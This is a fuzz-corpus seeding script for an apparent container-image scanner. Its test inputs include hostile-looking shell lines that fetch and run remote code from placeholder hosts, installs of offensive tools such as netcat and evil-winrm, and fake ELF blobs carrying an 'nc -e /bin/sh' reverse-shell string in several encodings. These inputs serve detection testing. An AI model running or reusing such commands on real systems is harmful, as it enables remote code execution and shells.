#!/bin/sh
# Seed the fuzz corpora (B/corpus/TARGET, one directory per tests/fuzz
# target) with real inputs, so each target starts from valid documents:
#   - the fixture images (fixtures/specs, built with build/fixture-builder)
#     and tricky images from tests/difftest/gen.py (every hand-written case
#     and random seeds 1..SEEDS): layer blobs for fuzz_layer (prefixed with
#     the byte that selects their media type), their decompressed tars for
#     fuzz_tar, manifests + configs for fuzz_manifest (digests replaced by
#     the target's @@N / $$N placeholders), configs for fuzz_config,
#     index.json for fuzz_layout, /etc/passwd and /etc/group and the USER
#     for fuzz_passwd, executable heads for fuzz_elfhead, capability xattrs
#     for fuzz_caps, the facts cache payloads for fuzz_cache;
#   - fixtures/requests for the webhook bodies (fuzz_admission,
#     fuzz_imagereview, fuzz_tes, fuzz_podspec) and the images they name
#     for fuzz_imageref;
#   - tests/cases/data/manifest, request objects and the YAML typing
#     corpus (tests/manifest/typing.txt) for fuzz_yaml;
#   - hand-written run commands for fuzz_runtext;
#   - rules/policies for fuzz_policy; hand-written challenges, token
#     answers and config.json files for fuzz_regauth and fuzz_authfile;
#   - fixed pseudo-random recipes for fuzz_layergen;
#   - one request of each op and one frame header of each type for
#     fuzz_fetchwire;
#   - tests/fuzz/regress/TARGET/*: inputs that found a bug, kept.
# Corpora keep what earlier runs found; seeds are added, never removed.
# usage: fuzz-seeds.sh [BUILD_DIR [SEEDS]]
set -eu
B=${1:-build/fuzz}
SEEDS=${2:-40}
ROOT=$(cd "$(dirname "$0")/.." && pwd)
# (PC_SEEDS_BUILD: the build whose fixture-builder and portcullis make
# the seeds; tests/integration/fuzzreplay.sh gives the test build)
SB=${PC_SEEDS_BUILD:-build}
FB="$ROOT/$SB/fixture-builder"
PC="$ROOT/$SB/portcullis"
case $SB in /*) FB="$SB/fixture-builder" PC="$SB/portcullis" ;; esac
[ -x "$FB" ] || make -C "$ROOT" --no-print-directory "$FB" >/dev/null
[ -x "$PC" ] || make -C "$ROOT" --no-print-directory "$PC" >/dev/null
S="$B/seeds"
C="$B/corpus"
rm -rf "$S"
mkdir -p "$S/img" "$S/gen" "$S/cache"
for t in "$ROOT"/tests/fuzz/fuzz_*.c; do mkdir -p "$C/$(basename "$t" .c)"; done
# Inputs that once failed a target (tests/fuzz/regress/TARGET/) run first.
for d in "$ROOT"/tests/fuzz/regress/*/; do
    [ -d "$d" ] && cp "$d"* "$C/$(basename "$d")/" 2>/dev/null || true
done

# Images: the fixtures, then difftest's cases and random images.
for spec in "$ROOT"/fixtures/specs/*.json; do
    n=$(basename "$spec" .json)
    "$FB" "$spec" "$S/img/$n" >/dev/null 2>&1 || true
done
GEN="$ROOT/tests/difftest/gen.py"
for spec in "$ROOT"/tests/difftest/cases/*.json; do
    python3 "$GEN" case "$spec" --out "$S/gen/$(basename "$spec" .json)" >/dev/null 2>&1 || true
done
i=1
while [ "$i" -le "$SEEDS" ]; do
    python3 "$GEN" random --seed "$i" --out "$S/gen/random-$i" >/dev/null 2>&1 || true
    i=$((i + 1))
done

# Facts cache payloads: scan the fixtures and the difftest cases into a
# fresh cache (the python below strips each entry's 216-byte header,
# cache.c HDR); one run for them all (one start, the rules compiled once).
find "$S/img" "$S/gen" -name index.json ! -path "*/random-*" | sort | sed 's,/index.json$,,; s,^,oci:,' |
    xargs "$PC" scan --cache-dir "$S/cache" --progress never --policy baseline >/dev/null 2>&1 || true

python3 - "$ROOT" "$S" "$C" <<'EOF'
import glob, gzip, hashlib, io, json, os, random, re, sys, zlib

root, seeds, corpus = sys.argv[1:4]
SEP = b"\n----\n"


def put(target, name, data):
    if isinstance(data, str):
        data = data.encode()
    d = os.path.join(corpus, target)
    os.makedirs(d, exist_ok=True)
    h = hashlib.sha1(data).hexdigest()[:16]
    with open(os.path.join(d, "seed-%s-%s" % (name, h)), "wb") as f:
        f.write(data)


def unpack(b, cap=1 << 20):
    """The decoded layer, or None when it is bad or longer than cap (only
    tars up to 1 MiB are seeds; some fixtures decode to gigabytes)."""
    if b[:3] == b"\x1f\x8b\x08":
        out = b""
        try:
            while b:
                d = zlib.decompressobj(31)
                out += d.decompress(b, cap + 1 - len(out))
                if len(out) > cap or d.unconsumed_tail:
                    return None
                if not d.eof:
                    return None
                b = d.unused_data
            return out
        except Exception:
            return None
    if b[:4] == b"\x28\xb5\x2f\xfd":
        try:
            import subprocess
            return subprocess.run(["zstd", "-dcq"], input=b, capture_output=True, check=True).stdout
        except Exception:
            return None
    return b


layouts = sorted(set(os.path.dirname(p) for p in glob.glob(seeds + "/img/**/index.json", recursive=True)
                     + glob.glob(seeds + "/gen/**/index.json", recursive=True)))
tars = []
cfg_users = set()
for lay in layouts:
    tag = os.path.relpath(lay, seeds).replace("/", "_")
    blobs = {}
    for p in glob.glob(lay + "/blobs/sha256/*"):
        blobs["sha256:" + os.path.basename(p)] = open(p, "rb").read()
    idx = open(lay + "/index.json", "rb").read()
    put("fuzz_layout", tag, b"\x00" + SEP + idx)
    put("fuzz_layout", tag + "-latest", b"\x00latest" + SEP + idx)
    docs = {}
    for dg, b in blobs.items():
        try:
            docs[dg] = json.loads(b)
        except Exception:
            docs[dg] = None
    for dg, b in blobs.items():
        j = docs[dg]
        if j is None:
            t = unpack(b)
            if t is not None and len(t) <= 1 << 20:
                tars.append(t)
                put("fuzz_tar", tag, t)
            if len(b) <= 1 << 20:
                sel = b"\x00" if b[:3] != b"\x1f\x8b\x08" and b[:4] != b"\x28\xb5\x2f\xfd" else b"\x01"
                put("fuzz_layer", tag, sel + b)
        elif isinstance(j, dict) and ("rootfs" in j or "config" in j and "layers" not in j):
            put("fuzz_config", tag, b)
            u = (j.get("config") or {}).get("User") if isinstance(j.get("config"), dict) else None
            if isinstance(u, str):
                cfg_users.add(u.encode())
    # a chain for fuzz_manifest: the top document, what it names, down to configs
    try:
        top = json.loads(idx)["manifests"][0]["digest"]
    except Exception:
        continue
    order, todo = [], [top]
    while todo and len(order) < 6:
        dg = todo.pop(0)
        if dg in order or dg not in blobs or docs.get(dg) is None:
            continue
        order.append(dg)
        j = docs[dg]
        for m in j.get("manifests", []) if isinstance(j, dict) else []:
            todo.append(m.get("digest"))
        if isinstance(j, dict) and isinstance(j.get("config"), dict):
            todo.append(j["config"].get("digest"))

    def subst(o):
        if isinstance(o, dict):
            o = {k: subst(v) for k, v in o.items()}
            if o.get("digest") in order:
                n = order.index(o["digest"]) + 1
                o["digest"] = "sha256:@@%d" % n
                if "size" in o:
                    o["size"] = "__SIZE_%d__" % n
            return o
        if isinstance(o, list):
            return [subst(v) for v in o]
        return o

    parts = []
    for dg in order:
        s = json.dumps(subst(docs[dg]), separators=(",", ":"))
        s = re.sub(r'"__SIZE_(\d)__"', r"$$\1", s)
        parts.append(s.encode())
    if parts:
        put("fuzz_manifest", tag, b"\x00\x00\xf1" + SEP + SEP.join(parts))

# /etc/passwd, /etc/group and executables from the layer tars
import tarfile
users = sorted(cfg_users | {b"", b"root", b"0", b"app", b"1000", b"1000:1000", b"app:app", b"+0",
                            b"4294967296", b"nobody", b"0:0", b"-0", b"app:wheel"})
rnd = random.Random(1)
for n, t in enumerate(tars):
    try:
        tf = tarfile.open(fileobj=io.BytesIO(t))
        members = tf.getmembers()
    except Exception:
        continue
    pw = gr = None
    for m in members:
        if not m.isreg():
            continue
        try:
            data = tf.extractfile(m).read()
        except Exception:
            continue
        base = os.path.basename(m.name)
        if base == "passwd":
            pw = data
        elif base == "group":
            gr = data
        if data[:4] == b"\x7fELF" or data[:2] == b"#!":
            put("fuzz_elfhead", "t%d" % n, data[:4096])
        for k, v in (m.pax_headers or {}).items():
            if k == "SCHILY.xattr.security.capability":
                put("fuzz_caps", "t%d" % n, v.encode("utf-8", "surrogateescape")
                    if isinstance(v, str) else v)
    if pw is not None or gr is not None:
        put("fuzz_passwd", "t%d" % n, rnd.choice(users) + SEP + (pw or b"") + SEP + (gr or b"")
            + SEP + (b"\x00" if pw is not None and gr is not None else b"\x02"))
for u in users:
    put("fuzz_passwd", "u", u + SEP + b"root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/:/bin/sh\n"
        + SEP + b"root:x:0:\nwheel:x:10:app\napp:x:1000:\n" + SEP + b"\x00")
for p in ("/bin/sh", "/bin/ls", "/usr/bin/env"):
    if os.path.exists(p):
        put("fuzz_elfhead", os.path.basename(p), open(p, "rb").read(4096))
# whole small programs: their dynamic sections (DT_NEEDED, DT_RUNPATH) too
for p in ("/usr/bin/env", "/bin/ls"):
    if os.path.exists(p) and os.path.getsize(p) <= 256 * 1024:
        put("fuzz_elfhead", os.path.basename(p) + "-whole", open(p, "rb").read())
# package databases: kind byte (0 dpkg, 1 status.d, 2 apk), cut byte, bytes
if os.path.exists("/var/lib/dpkg/status"):
    st = open("/var/lib/dpkg/status", "rb").read()
    put("fuzz_pkgdb", "dpkg", b"\x00\x07" + st[:60000])
    put("fuzz_pkgdb", "status.d", b"\x01\x01" + st[:st.find(b"\n\n") + 1])
put("fuzz_pkgdb", "apk", b"\x02\x05" + b"C:Q1x=\nP:musl\nV:1.2.4-r2\nA:x86_64\nF:lib\nR:libc.so\n\n"
    + b"P:nmap\nV:7.94-r0\nD:so:libc.musl-x86_64.so.1\n\n")
put("fuzz_caps", "v2-net-bind", bytes.fromhex("0100000200040000000000000000000000000000"))
put("fuzz_caps", "v3-rootid", bytes.fromhex("010000030020000000000000000000000000000000100000"))
put("fuzz_caps", "v1", bytes.fromhex("000000010000200000000000"))

# facts cache payloads
for p in glob.glob(seeds + "/cache/**/*", recursive=True):
    if os.path.isfile(p):
        b = open(p, "rb").read()
        if b[:7] == b"PCFACTS" and len(b) > 216:
            put("fuzz_cache", "c", b[216:])

# webhook request bodies
req = root + "/fixtures/requests"
kinds = [("", "Pod"), ("", "ReplicationController"), ("", "EphemeralContainers"),
         ("apps", "Deployment"), ("apps", "ReplicaSet"), ("apps", "StatefulSet"),
         ("apps", "DaemonSet"), ("extensions", "Deployment"), ("extensions", "ReplicaSet"),
         ("extensions", "DaemonSet"), ("batch", "Job"), ("batch", "CronJob")]
images = set()
for p in glob.glob(req + "/*.json") + glob.glob(req + "/malformed/*.json"):
    b = open(p, "rb").read()
    name = os.path.basename(p)
    put("fuzz_imagereview" if "imagereview" in name else "fuzz_admission", name, b)
    try:
        j = json.loads(b)
    except Exception:
        continue
    images.update(re.findall(r'"image"\s*:\s*"([^"]*)"', b.decode("utf-8", "replace")))
    r = j.get("request") if isinstance(j, dict) else None
    if isinstance(r, dict) and isinstance(r.get("kind"), dict) and isinstance(r.get("object"), dict):
        k = (r["kind"].get("group", ""), r["kind"].get("kind"))
        if k in kinds:
            for room in (0, 4, 15):  # the high nibble: room for the metadata pointer
                put("fuzz_podspec", name, bytes([kinds.index(k) | room << 4])
                    + json.dumps(r["object"]).encode())
put("fuzz_admission", "imagereview-as-admission", open(req + "/imagereview.json", "rb").read())
# pc_jdoc against jansson: every JSON text the repository holds
for p in glob.glob(root + "/fixtures/**/*.json", recursive=True) + glob.glob(
        root + "/tests/**/*.json", recursive=True):
    put("fuzz_jdoc", os.path.basename(p), open(p, "rb").read())
for p in glob.glob(req + "/tes/*.json") + glob.glob(req + "/tes/malformed/*.json"):
    b = open(p, "rb").read()
    put("fuzz_tes", os.path.basename(p), b)
    images.update(re.findall(r'"image"\s*:\s*"([^"]*)"', b.decode("utf-8", "replace")))
images.update(["nginx", "docker.io/library/nginx:1.25", "index.docker.io/library/alpine",
               "localhost:5000/team/app/api:v1.2.3", "[::1]:5000/x:tag", "Registry.Example/x",
               "a.b:65535/c__d--e.f@sha256:" + "0" * 64, "busybox:latest@sha256:" + "a" * 64,
               "linux/amd64", "linux/arm64/v8", "oci:/tmp/x:tag"])
for im in images:
    put("fuzz_imageref", "i", im)

# manifests for `scan --manifest` (fuzz_yaml): the cases' files, the
# request objects as JSON and as YAML-ish flow, the typing corpus' lines
for p in glob.glob(root + "/tests/cases/data/manifest/*"):
    put("fuzz_yaml", os.path.basename(p), open(p, "rb").read())
for p in glob.glob(req + "/*.json"):
    try:
        o = json.load(open(p)).get("request", {}).get("object")
    except Exception:
        continue
    if isinstance(o, dict):
        put("fuzz_yaml", os.path.basename(p), json.dumps(o, indent=1).encode())
        put("fuzz_yaml", "flow-" + os.path.basename(p), b"x: 1\n---\n" + json.dumps(o).encode())
for line in open(root + "/tests/manifest/typing.txt", encoding="utf-8"):
    if "\t" in line and not line.startswith("#"):
        put("fuzz_yaml", "t", line.split("\t", 1)[1].rstrip("\n").encode().decode("unicode_escape").encode("latin-1", "replace"))

# policies
for p in glob.glob(root + "/rules/policies/*.json"):
    put("fuzz_policy", os.path.basename(p), open(p, "rb").read())

# registry auth: WWW-Authenticate values and token server answers
chal = [b'Bearer realm="https://auth.example/token",service="registry.example",'
        b'scope="repository:team/app:pull"',
        b'Basic realm="registry"',
        b'Bearer realm="https://a/t?x=1",service=reg, Basic realm="r", Negotiate',
        b'bearer realm=https://a/t,scope="repository:a/b:pull,push" ,error="invalid_token"',
        b'Bearer realm="https://a/\\"q\\"t"']
toks = [b'{"token":"abc.def","expires_in":300}', b'{"access_token":"x","expires_in":999999}',
        b'{"token":"","access_token":"y"}', b'{"token":"a b"}']
for i, c in enumerate(chal):
    for t in toks:
        put("fuzz_regauth", "c%d" % i, c + SEP + t)

# docker config.json
auths = [b'{"auths":{"https://index.docker.io/v1/":{"auth":"dXNlcjpwYXNz"}}}',
         b'{"auths":{"127.0.0.1:5000":{"username":"u","password":"p"}}}',
         b'{"auths":{"ghcr.io":{"identitytoken":"tok"}},"credsStore":"desktop"}',
         b'{"credHelpers":{"registry.example.com":"ecr-login"},"auths":{}}',
         b'{"auths":{"http://localhost/v2/":{"auth":"Ong="}}}']
for i, a in enumerate(auths):
    for h in range(8):
        put("fuzz_authfile", "a%d" % i, bytes([h]) + a)

# the run's text: commands that install, fetch and run, and look-alikes
runs = [b"sh -c apt-get -o X=Y install -y netcat-traditional=1.10 socat:amd64 curl && nc -l -p 1",
        b"/app/run -c apk add --no-cache --virtual .deps nmap\nPKG=nmap socat\n",
        b"sh -c pip install -i URL Impacket==0.11 'pwntools[all]>=4'; go install github.com/ffuf/ffuf/v2@latest",
        b"bash -c wget -qO- http://x/a.gz | gunzip | sudo bash -s; sh -c \"$(curl -fsSL https://x/y)\"",
        b"sh -c curl -sSLo /tmp/k https://x/k && chmod +x /tmp/k && /tmp/k; bash <(curl -s u); eval `wget -O- u`",
        b"sh -c curl -o /d/in.csv u && python3 /app/main.py /d/in.csv; echo $(curl -s u) || true\nA=${B}\n",
        b"microdnf install -y nmap-ncat.x86_64; gem install evil-winrm -v 3; cargo install RustScan",
        b"dpkg -i ./n_1_amd64.deb; rpm -Uvh http://x/a-1-2.x86_64.rpm; pip install -e git+https://h/o/r.git@v1#egg=x ./p-1.tar.gz; cargo install --git https://h/o/R"]
for i, r in enumerate(runs):
    put("fuzz_runtext", "r%d" % i, r)

# files an image carries compressed or archived (fuzz_nested): every codec
# and format, small and over the target's whole-member limit, nested
import bz2, gzip, io, lzma, tarfile, zipfile
def tar_of(files, mode='w'):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode) as t:
        for name, data in files:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
    return b.getvalue()
def zip_of(files, method):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', method) as z:
        for name, data in files:
            z.writestr(name, data)
    return b.getvalue()
def ar_of(files):
    out = b'!<arch>\n'
    for name, data in files:
        out += (b'%-16s%-12s%-6s%-6s%-8s%-10d`\n' % (name.encode() + b'/', b'0', b'0', b'0', b'644', len(data)))
        out += data + (b'\n' if len(data) % 2 else b'')
    return out
def lz4_legacy(data):  # lz4 -l's format: one block of literals only (a valid LZ4 block)
    n = len(data)
    blk = bytes([min(n, 15) << 4])
    if n >= 15:
        rest = n - 15
        blk += b'\xff' * (rest // 255) + bytes([rest % 255])
    blk += data
    return b'\x02\x21\x4c\x18' + len(blk).to_bytes(4, 'little') + blk
small = [('bin/nc', b'\x7fELF' + b'nc -e /bin/sh ' * 20), ('doc', b'text\n' * 50)]
big = [('big', bytes(random.Random(7).randrange(256) for _ in range(6000)))]
nested = [
    gzip.compress(small[0][1]), lzma.compress(small[0][1]), bz2.compress(small[0][1]),
    lzma.compress(small[0][1], format=lzma.FORMAT_ALONE), tar_of(small), tar_of(small + big, 'w:gz'),
    zip_of(small, zipfile.ZIP_DEFLATED), zip_of(small + big, zipfile.ZIP_STORED), ar_of(small),
    ar_of([('data.tar.xz', lzma.compress(tar_of(small)))]),
    tar_of([('x.zip', zip_of([('y.tgz', tar_of(small, 'w:gz'))], zipfile.ZIP_DEFLATED))], 'w:xz'),
    gzip.compress(b'.\\" man page\n.TH NC 1\n'), lz4_legacy(small[0][1]) + lz4_legacy(tar_of(small)),
    b'#!/bin/sh\nexit 0\n' + gzip.compress(tar_of(small)),
    bytes.fromhex('1f9d906ec680685106c40b3169dcbc988306440c182e20428c018286451a3b40041c58f060c2850d1f461c49f1220d05'),
    b'070701' + b'00000001000081ED0000000000000000000000010000000000000005000000000000000000000000000000000000000700000000' + b'bin/nc\0' + b'\0' + b'ELF!!' + b'\0' * 3,
    b'\xed\xab\xee\xdb' + b'\0' * 92 + b'\x8e\xad\xe8\x01' + b'\0' * 12 + b'\x8e\xad\xe8\x01' + b'\0' * 12 + gzip.compress(b'070707'),
]
# text encodings of programs (b64find.c) and programs after other bytes (carve.c)
import base64, struct
elf = b'\x7fELF\x02\x01\x01' + b'\0' * 9 + struct.pack('<HHIQQQIHHHHHH', 2, 0x3e, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0) + b'nc -e /bin/sh ' * 10
nested += [
    b"x = '" + base64.b64encode(gzip.compress(tar_of(small))) + b"'\n",
    b'BLOB = ("' + b'"\n    b"'.join(base64.b64encode(elf)[i:i + 20] for i in range(0, 240, 20)) + b'")\n',
    b'xxd -r -p <<EOF\n' + b'\n'.join(elf.hex().encode()[i:i + 60] for i in range(0, 400, 60)) + b'\nEOF\n',
    b"printf '" + b''.join(b'\\x%02x' % c for c in elf) + b"'\n",
    b'\x89PNG\r\n\x1a\n' + b'\0' * 40 + elf + b'text' * 10 + elf,
    b'#!/bin/sh\nexit $res\n' + base64.encodebytes(tar_of(small)),
    b'    data = b64decode(\'\'\'\n        ' + base64.encodebytes(elf).replace(b'\n', b'\n        ') + b"''')\n",
]
# uuencoded (uufind.c): as uuencode writes it, with shar's X prefix
import binascii
uu = b''.join(binascii.b2a_uu(elf[i:i + 45]) for i in range(0, len(elf), 45))
nested += [
    b'begin 755 nc\n' + uu + b'`\nend\n',
    b"sed 's/^X//' <<'E' | uudecode\nbegin 600 x\n" + b''.join(b'X' + l + b'\n' for l in uu.splitlines()) + b'X`\nXend\nE\n',
]

# programs packed as UPX lays them out (upx.c): the loader's headers, the
# pack header, stored blocks (the fuzzer changes their methods) unpacking to a
# program with two PT_LOAD segments; also given to fuzz_nested
def ehdr64(phnum):
    return (b'\x7fELF\x02\x01\x01' + bytes(9) + struct.pack('<HHIQQQIHHHHHH', 2, 62, 1, 0, 64, 0, 0,
                                                             64, 56, phnum, 64, 0, 0))
def load64(off, size):
    return struct.pack('<IIQQQQQQ', 1, 5, off, off, off, size, size, 4096)
orig_hdr = ehdr64(2) + load64(0, 0x300) + load64(0x1000, 0x80)
seg1 = bytes((0x61 + (i // 16) % 26) for i in range(0x300 - len(orig_hdr)))
seg2 = b'NETCAT-PAYLOAD'.ljust(0x80, b'\0')
def upx_file(blocks, magic=b'UPX!'):
    f = ehdr64(2) + load64(0, 0x4000) + load64(0, 0)
    f += struct.pack('<I', 0x11223344) + magic + struct.pack('<HBB', 0x900, 13, 22)
    f += struct.pack('<III', 0, 0x1080, 0x1080)
    for su, data, method, ftid, cto in blocks:
        f += struct.pack('<IIBBBB', su, len(data), method, ftid, cto, 0) + data
    return f + struct.pack('<II', 0, 0x21585055) + bytes(4)
stored = [(len(orig_hdr), orig_hdr, 2, 0, 0), (len(seg1), seg1, 2, 0, 0), (len(seg2), seg2, 2, 0x49, 0x12)]
upx_seeds = [upx_file(stored), upx_file(stored, b'ABCD'), upx_file(stored[:2]),
             upx_file([(len(orig_hdr), orig_hdr, 14, 0, 0)] + stored[1:])]
for i, u in enumerate(upx_seeds):
    put("fuzz_upx", "u%d" % i, u)
nested += upx_seeds
for i, n in enumerate(nested):
    put("fuzz_nested", "n%d" % i, n)

# recipes for the structure-aware layer generator
for i in range(32):
    r = random.Random(i)
    put("fuzz_layergen", "r%d" % i, bytes(r.randrange(256) for _ in range(r.randrange(16, 600))))

# the registry process's requests (lib/registry/fetchwire.h: "PCFQ", version
# 1, op, the strings given, id, ctx, flags, num, four strings), one per op,
# and frame headers (type, length)
import struct


def fw(op, rid, ctx, flags, num, strs):
    present = sum(1 << i for i, x in enumerate(strs) if x is not None)
    b = b"PCFQ" + struct.pack(">BBHIIBQ", 1, op, present, rid, ctx, flags, num)
    for x in strs:
        x = (x or "").encode()
        b += struct.pack(">H", len(x)) + x
    return b


fwreqs = [
    fw(1, 1, 0, 1, 0, ["user:secret", None, None, None]),
    fw(1, 2, 0, 2, 0, ["a-token", None, None, None]),
    fw(2, 1, 0, 0, 0, [None] * 4),
    fw(3, 7, 1, 1, 30000, ["registry.example:5000", "library/app", "/etc/containers/certs.d", "/run/auth.json"]),
    fw(4, 7, 0, 0, 0, [None] * 4),
    fw(5, 7, 0, 0, 4 << 20, ["v1.2", None, None, None]),
    fw(6, 7, 0, 0, 1 << 20, ["sha256:" + "ab" * 32, None, None, None]),
    fw(7, 7, 0, 0, 123456, ["sha256:" + "cd" * 32, None, None, None]),
    fw(8, 1, 0, 0, 0, ["registry.example:5000", "library/app", None, None]),
    fw(8, 1, 0, 0, 0, [None] * 4),
]
for i, b in enumerate(fwreqs):
    put("fuzz_fetchwire", "q%d" % i, b)
for t, n in ((b"M", 38), (b"D", 262144), (b"O", 0), (b"Z", 0), (b"E", 20)):
    put("fuzz_fetchwire", "f" + t.decode(), t + struct.pack(">I", n))
EOF
for t in "$C"/*; do printf '%s: %s\n' "$(basename "$t")" "$(ls "$t" | wc -l)"; done | tr '\n' ' '
echo
